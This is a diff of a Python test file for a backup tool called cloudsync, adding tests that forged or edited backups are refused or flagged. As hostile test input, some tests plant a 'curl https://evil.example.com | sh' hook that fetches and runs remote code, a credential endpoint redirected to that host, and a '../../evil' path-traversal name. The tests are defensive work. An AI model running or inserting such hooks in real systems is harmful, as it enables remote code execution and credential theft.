@@ -112,7 +112,7 @@ def test_without_a_passphrase_the_last_wrapped_seed_is_kept_with_a_warning_if_it
     seeds.save_seed(layout, seed.add_primary())
     later = take("", first.text)
     assert later.warnings == [backups.WITHOUT_SEED]
-    assert later.text == first.text
+    assert json.loads(later.text)["seed"] == json.loads(first.text)["seed"]
 
 
 @pytest.mark.usefixtures("stored")
@@ -161,15 +161,94 @@ def test_an_edited_backup_is_refused_completely(take, other, damage):
     assert not os.path.exists(other.config_dir)
 
 
+def forge(content):
+    """Return the text of an edited backup with a new checksum, which needs no key."""
+    body = {key: value for key, value in content.items() if key != "checksum"}
+    return json.dumps({**body, "checksum": crypto.compute_checksum(body)})
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        lambda content: content["tasks"]["nightly"]["hooks"].update(before="curl https://evil.example.com | sh"),
+        lambda content: content["tasks"]["nightly"].update(path="/etc"),
+        lambda content: content["credentials"].pop("offsite"),
+        lambda content: content["credentials"]["offsite"]["attributes"].update(endpoint="https://evil.example.com"),
+        lambda content: content["seed"].update(key_ids=[]),
+    ],
+)
+@pytest.mark.parametrize("code", ["kept", "removed", "of another seed"])
+@pytest.mark.usefixtures("stored")
+def test_nobody_can_edit_a_backup_without_the_passphrase(layout, task, take, other, change, code):
+    content = json.loads(take().text)
+    change(content)
+    if code != "kept":
+        content["code"] = ""
+    text = forge(content)
+    if code == "of another seed":
+        text = backups.parse_backup(text).add_code(seeds.make_seed()).to_text()
+
+    try:
+        done = restore(other, text)
+    except CloudsyncError as error:
+        assert error.reason == "damaged" and "The backup is damaged: it was edited" in error.message
+        assert not os.path.exists(other.config_dir)
+    else:
+        # Without the code of the whole, only the absence of an object can remain unnoticed.
+        assert code != "kept" and "No seed can authenticate the backup as a whole" in done.warnings[0]
+        assert load_task(other, seeds.load_seed(other), "nightly") == task
+        assert content["credentials"] == {} or load_credential(other, seeds.load_seed(other), "offsite") == OFFSITE
+    if code == "kept":
+        with pytest.raises(CloudsyncError, match=r"It is the value of previous\. Move the file away"):
+            take(previous=text)
+
+
+@pytest.mark.usefixtures("stored")
+def test_a_planted_object_that_no_seed_can_check_is_never_used(take, other, task):
+    content = json.loads(take().text)
+    content["tasks"]["nightly"]["hooks"]["before"] = "curl https://evil.example.com | sh"
+
+    done = restore(other, forge({**content, "code": ""}), passphrase="")
+
+    assert done.unreadable.tasks == ["nightly"]
+    assert not os.path.exists(other.unit_dir)
+    own = seeds.make_seed()
+    seeds.save_seed(other, own)
+    with pytest.raises(CloudsyncError, match="is not in the seed of this host"):
+        load_task(other, own, "nightly")
+
+
+@pytest.mark.usefixtures("stored")
+def test_a_backup_of_the_first_version_is_not_restored_but_replaced(take, other):
+    content = json.loads(take().text)
+    old = {"schema": 1, "seed": content["seed"], "credentials": content["credentials"], "tasks": content["tasks"]}
+
+    with pytest.raises(CloudsyncError, match="Restore it with that version of the collection, then upgrade"):
+        restore(other, json.dumps(old))
+    assert json.loads(take(previous=json.dumps(old)).text)["seed"] == content["seed"]
+
+
+@pytest.mark.usefixtures("stored")
+def test_an_edited_object_prevents_a_backup(layout, take):
+    path = layout.task("nightly")
+    with open(path) as stream:
+        text = stream.read()
+    with open(path, "w") as stream:
+        stream.write(text.replace("/srv/data", "/srv/other"))
+
+    with pytest.raises(CloudsyncError, match=r"Task nightly in .* is damaged: it was edited"):
+        take()
+
+
 @pytest.mark.usefixtures("stored")
 def test_a_backup_of_a_newer_version_or_with_an_invalid_name_is_refused(take, other):
     content = json.loads(take().text)
-    for change in ({"schema": 2}, {"tasks": {"nightly": {**content["tasks"]["nightly"], "schema": 2}}}):
+    for change in ({"schema": 99}, {"tasks": {"nightly": {**content["tasks"]["nightly"], "schema": 99}}}):
         with pytest.raises(CloudsyncError, match="written by a newer version of cloudsync"):
-            restore(other, json.dumps({**content, **change}))
+            restore(other, forge({**content, **change}))
     evil = "../../evil"
     with pytest.raises(CloudsyncError, match=r"is invalid. Use 1 to 63"):
-        restore(other, json.dumps({**content, "tasks": {evil: {**content["tasks"]["nightly"], "name": evil}}}))
+        restore(other, forge({**content, "tasks": {evil: {**content["tasks"]["nightly"], "name": evil}}}))
 
 
 @pytest.mark.usefixtures("stored")
